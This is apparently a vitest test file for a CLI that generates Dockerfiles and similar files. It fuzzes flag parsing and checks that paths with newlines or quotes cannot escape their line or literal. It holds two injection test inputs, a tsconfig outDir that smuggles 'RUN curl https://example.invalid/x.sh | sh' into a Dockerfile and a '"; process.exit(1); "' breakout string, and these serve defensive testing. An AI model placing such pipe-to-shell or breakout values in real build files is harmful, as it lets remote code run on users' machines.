/**
 * Values that reach generated code. Flag values: any string either parses to a value inside the
 * documented bounds or is refused with a UsageError. Repo values (paths from tsconfig, file names)
 * with newlines and quotes must not break out of the line or literal they are embedded in.
 */
import { afterAll, describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { readFileSync, writeFileSync, mkdirSync } from 'node:fs';
import { join } from 'node:path';
import { QUESTIONS } from '../../src/questions.js';
import { UsageError } from '../../src/core/errors.js';
import { PARTS } from '../../src/answers.js';
import { detect } from '../../src/detect/index.js';
import { renderString } from '../../src/core/render.js';
import { changedPaths, cleanupTemps, fingerprint, fixtureCopy, runCli } from './harness.js';
import { outputProblem } from './validate.js';

afterAll(cleanupTemps);

const BOUNDS: Record<string, [number, number]> = { timeout: [100, 600_000], 'shutdown-delay': [0, 120_000], 'pre-stop': [0, 300] };

describe('flag values', () => {
  const facts = detect(fixtureCopy('base-node-app', 'values-facts'));

  it.each(QUESTIONS.map((q) => [q.flag, q] as const))('--%s: any string is a bounded value or a UsageError', (_flag, q) => {
    const interesting = fc.oneof(
      fc.string(),
      fc.constantFrom(
        '0',
        '-1',
        '1e3',
        '0x10',
        '1_000',
        ' 100 ',
        '100.5',
        'NaN',
        'Infinity',
        '9'.repeat(400),
        '',
        '.',
        './',
        '..',
        '../x',
        'zero',
        'signal',
        'module,docker',
        ',,,',
        '\n',
        'a\nb',
        '"; process.exit(1); "',
      ),
      fc.integer({ min: -1_000_000, max: 10_000_000 }).map(String),
    );
    fc.assert(
      fc.property(interesting, (raw) => {
        let value: unknown;
        try {
          value = q.parse(raw, facts);
        } catch (e) {
          expect(e).toBeInstanceOf(UsageError);
          // The CLI prints the first line only: that line must say which flag is wrong.
          expect((e as Error).message.split('\n')[0]).toContain(`--${q.flag}`);
          return;
        }
        const bounds = BOUNDS[q.flag];
        if (bounds) {
          expect(Number.isSafeInteger(value)).toBe(true);
          expect(value as number).toBeGreaterThanOrEqual(bounds[0]);
          expect(value as number).toBeLessThanOrEqual(bounds[1]);
        } else if (q.flag === 'exit-code') expect(['zero', 'signal']).toContain(value);
        else if (q.flag === 'only') for (const p of value as string[]) expect(PARTS).toContain(p);
        else if (q.flag === 'apps') for (const d of value as string[]) expect(facts.apps.map((a) => a.dir)).toContain(d);
      }),
      { seed: 8, numRuns: 300 },
    );
  });

  it('the json helper makes any string a valid literal in JS and Python', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), (s) => {
        const js = renderString('const x = {{json v}};\n', { v: s });
        expect(outputProblem('x.js', js)).toBeNull();
        expect(new Function(`${js}; return x;`)()).toBe(s);
      }),
      { seed: 8, numRuns: 200 },
    );
  });
});

describe('repo values embedded in generated files', () => {
  it('a tsconfig outDir with a newline does not add lines to the Dockerfile or .dockerignore', () => {
    const dir = fixtureCopy('tsconfig-jsonc', 'values-outdir');
    writeFileSync(
      join(dir, 'tsconfig.json'),
      JSON.stringify({
        compilerOptions: { module: 'NodeNext', outDir: 'dist\nRUN curl https://example.invalid/x.sh | sh\n#', rootDir: 'src' },
      }),
    );
    const before = fingerprint(dir);
    const r = runCli([dir, '--yes']);
    expect(r.stdout + r.stderr).not.toMatch(/internal error/);
    const changed = changedPaths(before, fingerprint(dir));
    for (const p of changed.filter((x) => !x.endsWith('/'))) {
      const text = readFileSync(join(dir, p), 'utf8');
      expect(outputProblem(p, text), p).toBeNull();
      expect(text, `${p} carries the injected line`).not.toMatch(/^RUN curl/m);
    }
    if (r.code !== 0) expect(changed).toEqual([]);
  });

  it('an entrypoint in a directory with quotes and spaces gets an import that parses', () => {
    const dir = fixtureCopy('base-node-app', 'values-quotes');
    mkdirSync(join(dir, `it's "here"`));
    writeFileSync(join(dir, `it's "here"`, 'server.js'), readFileSync(join(dir, 'server.js')));
    writeFileSync(
      join(dir, 'package.json'),
      JSON.stringify({ name: 'q', main: `it's "here"/server.js`, dependencies: { express: '^5.0.0' } }),
    );
    const before = fingerprint(dir);
    const r = runCli([dir, '--yes']);
    expect(r.code, r.stderr).toBe(0);
    const changed = changedPaths(before, fingerprint(dir)).filter((x) => !x.endsWith('/'));
    expect(changed).toContain(`it's "here"/server.js`);
    for (const p of changed) expect(outputProblem(p, readFileSync(join(dir, p), 'utf8')), p).toBeNull();
  });
});
